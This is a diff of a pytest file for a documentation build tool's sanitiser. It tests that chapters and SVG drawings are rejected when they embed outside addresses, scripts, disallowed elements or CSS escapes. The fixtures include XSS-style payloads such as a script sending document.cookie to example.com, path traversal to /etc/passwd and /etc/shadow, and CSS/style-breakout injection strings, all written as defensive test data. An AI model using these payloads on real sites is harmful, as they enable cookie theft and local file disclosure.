@@ -9,7 +9,7 @@ import shutil
 from pathlib import Path
 
 import pytest
-from conftest import ROOT, SAMPLES
+from conftest import ROOT, SAMPLES, copy_project
 
 from build_tools import boundary, cli, pdf
 from build_tools._exceptions import EXIT_BAD_INPUT, ChapterError, PrintEditionError
@@ -21,6 +21,9 @@ OUT_OF_DOCS = "../../../../../../../../../../etc/passwd"
 SITE_TAIL = "a page names only the manual's own pages and figures, and web pages to click"
 WEB_TAIL = "a file of another host: the site loads nothing from outside (a link to it is fine)"
 PRINT_TAIL = "the print edition reads only the files of the built site"
+ELEMENT_TAIL = ("which a page of the manual does not need: a page holds text, tables, code, figures and links "
+                "(build_tools/allowlist.py lists what it may hold)")
+CSS_TAIL = "an address in CSS: the manual's CSS names no file, only a #fragment of its own page or drawing"
 
 SITE_LINES = [
     "12 problems in the chapters:",
@@ -29,11 +32,11 @@ SITE_LINES = [
     f"  docs/01-outside.md:11: embeds '/etc/passwd', an absolute path: {SITE_TAIL}",
     f"  docs/01-outside.md:13: embeds '{OUT_OF_DOCS}', a path out of docs/: {SITE_TAIL}",
     f"  docs/01-outside.md:15: embeds 'http://example.com/x.png', {WEB_TAIL}",
-    f"  docs/01-outside.md:17: embeds 'https://cdn.example.com/x.css', {WEB_TAIL}",
-    f"  docs/01-outside.md:19: embeds 'file:///etc/passwd', a file:// address: {SITE_TAIL}",
+    f"  docs/01-outside.md:17: uses <link>, {ELEMENT_TAIL}",
+    f"  docs/01-outside.md:19: gives <span> a style with 'url(file:///etc/passwd)', {CSS_TAIL}",
     f"  docs/01-outside.md:21: embeds 'https://example.com/big.png', {WEB_TAIL}",
-    f"  docs/01-outside.md:23: embeds '/etc/passwd', an absolute path: {SITE_TAIL}",
-    f"  docs/01-outside.md:25: embeds 'http://example.com/frame.html', {WEB_TAIL}",
+    f"  docs/01-outside.md:23: uses <object>, {ELEMENT_TAIL}",
+    f"  docs/01-outside.md:25: uses <iframe>, {ELEMENT_TAIL}",
     f"  docs/01-outside.md:27: links to 'file:///etc/passwd', a file:// address: {SITE_TAIL}",
     "  docs/01-outside.md:35: runs a script (<script...): a page of the manual runs no script of its own, since what "
     "a script loads cannot be checked",
@@ -63,14 +66,13 @@ def test_a_chapter_naming_outside_addresses_fails_one_line_each(tmp_path, with_c
     ("[x](javascript:alert(1))", "links to 'javascript:alert(1)', a javascript: address"),
     ('<img src="&#102;ile:///etc/passwd">', "embeds 'file:///etc/passwd', a file:// address"),
     ('<img src="data:image/png;base64,AA==">', "embeds 'data:image/png;base64,AA==', a data: address"),
-    ('<script src="//cdn.example.com/x.js"></script>', "embeds '//cdn.example.com/x.js', a file of another host"),
     ("![x][pic]\n\n[pic]: http://example.com/p.png", "embeds 'http://example.com/p.png', a file of another host"),
     ('![ok](figures/f.svg){ src="file:///etc/shadow" }', "embeds 'file:///etc/shadow', a file:// address"),
-    ("<style>p { background: \\75 rl(http://example.com/x.png) }</style>",
-     "embeds 'http://example.com/x.png', a file of another host"),
-    ('<iframe srcdoc="<img src=\'file:///etc/passwd\'>"></iframe>', "embeds 'file:///etc/passwd', a file:// address"),
-    ('<meta http-equiv="refresh" content="0; url=https://example.com/">',
-     "embeds 'https://example.com/', a file of another host"),
+    ("<style>p { background: \\75 rl(http://example.com/x.png) }</style>", "uses <style>, which a page"),
+    ('<p style="color: red; background: \\75 rl(http://example.com/x.png)">x</p>',
+     "gives <p> a style with 'url(http://example.com/x.png)', an address in CSS"),
+    ('<iframe srcdoc="<img src=\'file:///etc/passwd\'>"></iframe>', "uses <iframe>, which a page"),
+    ('<meta http-equiv="refresh" content="0; url=https://example.com/">', "uses <meta>, which a page"),
     ("`<img src=\"file:///etc/passwd\">` and\n\n    <img src=\"file:///etc/passwd\">", None),  # code is shown
     ("[x](http://[oops/x)", "links to 'http://[oops/x', not an address a browser reads"),
     # Read as a browser reads HTML: a comment `<!-->` ends at once, `<![CDATA[` outside SVG at the first `>`.
@@ -95,11 +97,11 @@ SCRIPT = "a page of the manual runs no script of its own, since what a script lo
 @pytest.mark.parametrize(("markdown", "expected"), [
     ('<script>fetch("https://example.com/?" + document.cookie)</script>', ["3: runs a script (<script...)"]),
     ('<SCRIPT type="module">import("https://example.com/x.js")</SCRIPT>', ["3: runs a script (<script...)"]),
+    ('<svg><script href="https://example.com/x.js"/></svg>', ["3: runs a script (<script...)"]),
     ('<script src="figures/local.js"></script>', ["3: runs a script (<script...)"]),
     ('<img src="figures/f.svg" onerror="fetch(\'https://example.com\')">', ["3: runs a script (onerror=...)"]),
     ('Text\n\n<svg onload = "x()"><circle/></svg>\n\n<p onclick="y()">z</p>',
      ["5: runs a script (onload=...)", "7: runs a script (onclick=...)"]),
-    ('<iframe srcdoc="<script>x()</script>"></iframe>', ["3: runs a script (<script...)"]),
     ('![f](figures/f.svg){ onmouseover="x()" }', ["3: runs a script (onmouseover=...)"]),
     ("`<script>x()</script>` and\n\n    <script>y()</script>\n\nThe word onload=, said in text.", []),  # shown
 ])
@@ -114,6 +116,114 @@ def test_the_project_chapters_name_nothing_outside():
     render = boundary.markdown_renderer(ROOT / "mkdocs.yml")
     for chapter in sorted((ROOT / "docs").glob("*.md")):
         assert boundary.chapter_problems(chapter.name, chapter.read_text(encoding="utf-8"), render) == []
+
+
+# --- the allowlist: what a page and a drawing may hold ---------------------------------------------------------
+
+HOSTILE = SAMPLES / "boundary"
+
+
+@pytest.mark.parametrize("case", sorted(path.name for path in HOSTILE.iterdir() if path.is_dir()))
+def test_each_hostile_chapter_or_drawing_fails_with_its_lines(tmp_path, case):
+    """tests/samples/boundary/<case>: a chapter (and an SVG file of docs/) with one construct the allowlist does
+    not hold; the build stops with exactly expected.txt, each line naming the file and line (exit 2)."""
+    shutil.copytree(HOSTILE / case / "docs", tmp_path / "docs")
+    shutil.copy2(ROOT / "mkdocs.yml", tmp_path / "mkdocs.yml")
+    with pytest.raises(ChapterError) as caught:
+        read_blocks(tmp_path / "docs", SAMPLES / "chapters" / "figures")
+    assert str(caught.value) + "\n" == (HOSTILE / case / "expected.txt").read_text(encoding="utf-8")
+    assert caught.value.exit_code == EXIT_BAD_INPUT
+
+
+def test_a_hostile_chapter_stops_the_build_in_one_line_each_without_a_traceback(tmp_path, monkeypatch, capsys):
+    """The tester's case through the command line: an <object> showing an SVG of docs/ that loads a remote image.
+    `manual check` refuses both, names the files and lines, exits 2, and writes no site (nothing was fetched)."""
+    root = copy_project(tmp_path / "manual")
+    monkeypatch.chdir(root)
+    shutil.copy2(HOSTILE / "object-svg" / "docs" / "drawing.svg", root / "docs" / "drawing.svg")
+    chapter = root / "docs" / "01-step.md"
+    text = chapter.read_text(encoding="utf-8")
+    chapter.write_text(text + '\n<object data="drawing.svg" type="image/svg+xml"></object>\n', encoding="utf-8")
+    line = len(text.splitlines()) + 2
+    assert cli.main(["check"]) == EXIT_BAD_INPUT
+    err = capsys.readouterr().err
+    assert "Traceback" not in err and not (root / "site").exists()
+    assert f"docs/01-step.md:{line}: uses <object>, {ELEMENT_TAIL}" in err
+    assert f"docs/drawing.svg:2: embeds 'https://example.com/x.png', {WEB_TAIL}" in err
+
+
+@pytest.mark.parametrize(("markdown", "message"), [
+    # What the allowlist must let through: what the chapters and the build write.
+    ("| a | b |\n|:--|--:|\n| 1 | 2 |", None),  # aligned columns: style="text-align: left;"
+    ('<svg viewBox="0 0 9 9"><defs><clipPath id="c"><rect width="9" height="9"/></clipPath></defs>'
+     '<g clip-path="url(#c)"><use xlink:href="#c"/><path d="M 0 0 L 9 9" style="stroke: #262626"/></g></svg>', None),
+    ('<svg><a href="https://example.com/"><text y="9">a link in a drawing</text></a></svg>', None),
+    ('<p style="color: var(--role-trainer); background: rgb(1, 2, 3)">x</p>', None),
+    # What it refuses however it is written.
+    ('<SVG><SET attributeName="href" to="https://example.com/x.png"/></SVG>', "uses <set> in an SVG drawing"),
+    ("<svg><discard/></svg>", "uses <discard> in an SVG drawing"),
+    ('<svg><feImage href="https://example.com/x.png"/></svg>', "uses <feImage> in an SVG drawing"),
+    ('<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
+     "links to 'javascript:alert(1)', a javascript: address"),
+    ('<svg><rect cursor="url(https://example.com/c.cur), auto"/></svg>',
+     "gives <rect> in an SVG drawing the attribute cursor="),
+    ('<svg><image xml:base="https://example.com/" href="x.png"/></svg>',
+     "gives <image> in an SVG drawing the attribute xml:base="),
+    ("<math></math>", "uses <math>, which a page"),
+    ('<p style="background: url(\'#frag\') , url(https://example.com/x.png)">x</p>',
+     "gives <p> a style with 'url(https://example.com/x.png)'"),
+    ('<p style="@import \'https://example.com/x.css\';">x</p>', "gives <p> a style with '@import'"),
+    ('<img src="figures/f.svg" srcdoc="x" alt="x">', "gives <img> the attribute srcdoc="),
+    ('<a href="#x" target="_blank">x</a>', "gives <a> the attribute target="),
+    ('<input type="image" src="https://example.com/x.png">', "uses <input>, which a page"),
+    ('<video poster="figures/p.png"></video>', "uses <video>, which a page"),
+    ("<template><p>x</p></template>", "uses <template>, which a page"),
+])
+def test_the_allowlist_of_a_page(markdown, message):
+    render = boundary.markdown_renderer(ROOT / "mkdocs.yml")
+    problems = boundary.chapter_problems("docs/01-x.md", f"# X\n\n{markdown}\n", render)
+    assert [str(problem).startswith(f"docs/01-x.md:3: {message}") for problem in problems] == \
+        ([] if message is None else [True]), problems
+
+
+def test_every_drawing_and_page_the_build_writes_is_within_the_allowlist(tmp_path):
+    """The allowlist is not too tight: each figure matplotlib draws for the manual (every variant the site
+    serves) passes it, as an SVG file of docs/ would, and so does the article of every page of the site."""
+    from build_tools import build
+
+    site = tmp_path / "manual" / "site"
+    build.build(copy_project(tmp_path / "manual"))
+    drawings = sorted((site / "figures").glob("*.svg"))
+    assert len(drawings) >= 4 * len(read_blocks(ROOT / "docs", ROOT / "figures"))  # light, dark, phone, phone dark
+    assert [problem for drawing in drawings
+            for problem in boundary.svg_file_problems(drawing.name, drawing.read_bytes(), "figures")] == []
+    # And every page the build writes (figure blocks, tables, the index's swatches) is within the HTML allowlist.
+    articles = [pdf._ARTICLE.search(page.read_text(encoding="utf-8")) for page in sorted(site.glob("*.html"))]
+    assert len([article for article in articles if article]) >= 10
+    assert [found for article in articles if article
+            for found in boundary.page_refusals(article.group(1)) if found.message] == []
+
+
+@pytest.mark.parametrize(("drawing", "expected"), [
+    (b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>', []),
+    (b'<svg><rect/></svg>', ['docs/x.svg:1: uses <svg> of no namespace: an SVG drawing of the manual is SVG '
+                             '(xmlns="http://www.w3.org/2000/svg") and holds no other markup']),
+    (b'<svg xmlns="http://www.w3.org/2000/svg">\n<g xmlns="http://www.w3.org/1999/xhtml"><p/></g></svg>',
+     ["docs/x.svg:2: uses <g> of the namespace http://www.w3.org/1999/xhtml: an SVG drawing of the manual is SVG "
+      '(xmlns="http://www.w3.org/2000/svg") and holds no other markup',
+      "docs/x.svg:2: uses <p> of the namespace http://www.w3.org/1999/xhtml: an SVG drawing of the manual is SVG "
+      '(xmlns="http://www.w3.org/2000/svg") and holds no other markup']),
+    (b'<svg xmlns="http://www.w3.org/2000/svg">\n<rect>\n</svg>',
+     ["docs/x.svg:3: not an SVG file a browser reads: mismatched tag"]),
+    (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:e="http://www.w3.org/1999/xlink">\n'
+     b'<image e:href="../../etc/x.png"/>\n<a e:href="https://example.com/"><text>x</text></a>\n'
+     b'<rect onclick="x()"/></svg>',
+     ["docs/x.svg:2: embeds '../../etc/x.png', a path out of docs/: " + SITE_TAIL,
+      "docs/x.svg:4: runs a script (onclick=...): a page of the manual runs no script of its own, since what a "
+      "script loads cannot be checked"]),
+])
+def test_an_svg_file_is_read_as_the_xml_it_is(drawing, expected):
+    assert [str(problem) for problem in boundary.svg_file_problems("docs/x.svg", drawing, "")] == expected
 
 
 # --- the print edition ------------------------------------------------------------------------------------------
@@ -301,3 +411,35 @@ def test_the_stamp_cannot_end_the_books_stylesheet(tmp_path):
         "copyright: Edition 2026.10", "copyright: '</style><img src=\"file:///etc/passwd\">\n\n}'"), encoding="utf-8")
     target = pdf.write_pdf(tmp_path / "project" / "build" / "docs", site)
     assert target.read_bytes().startswith(b"%PDF")
+
+
+@pytest.mark.parametrize("stamp", [
+    "Miles radixark/miles:latest, Miles main of 2026-10-15 · 08752a1 · 2026-10-15 · Edition 2026.10",
+    "x\r} body { background: url(https://example.com/x.png) } a {",  # \r ends a CSS string unless escaped
+    "x\f} @import 'https://example.com/x.css'; a {",
+    'a "quote", a \\ backslash, </style><img src="https://example.com/x.png">; {braces}',
+])
+def test_a_stamp_from_edition_yml_is_one_css_string_whatever_it_holds(stamp):
+    """The stamp and the provenance note (edition.yml, the runs) enter the book's stylesheet, after palette.css,
+    as CSS strings: read back by WeasyPrint's CSS parser, each is one string equal to the value, and the stylesheet
+    has the same rules as with a plain stamp (no `}` or line break in a value ends a rule)."""
+    import tinycss2
+
+    def margin_boxes(css):
+        rules = tinycss2.parse_stylesheet(css, skip_whitespace=True, skip_comments=True)
+        page = next(rule for rule in rules if rule.type == "at-rule" and rule.at_keyword == "page"
+                    and not tinycss2.serialize(rule.prelude).strip())
+        return {box.at_keyword: box for box in tinycss2.parse_blocks_contents(page.content, skip_whitespace=True)
+                if box.type == "at-rule"}
+
+    css = pdf._stylesheet(stamp, stamp)
+    plain = pdf._stylesheet("stamp", "note")
+    assert [(rule.type, tinycss2.serialize(rule.prelude)) for rule in tinycss2.parse_stylesheet(css, True, True)] == \
+        [(rule.type, tinycss2.serialize(rule.prelude)) for rule in tinycss2.parse_stylesheet(plain, True, True)]
+    boxes = margin_boxes(css)
+    for box in ("top-right", "bottom-left"):
+        declarations = tinycss2.parse_blocks_contents(boxes[box].content, skip_whitespace=True)
+        content = next(item for item in declarations if item.type == "declaration" and item.name == "content")
+        values = [token for token in content.value if token.type != "whitespace"]
+        assert [(token.type, token.value) for token in values] == [("string", stamp)]
+    assert "</style" not in css.lower()
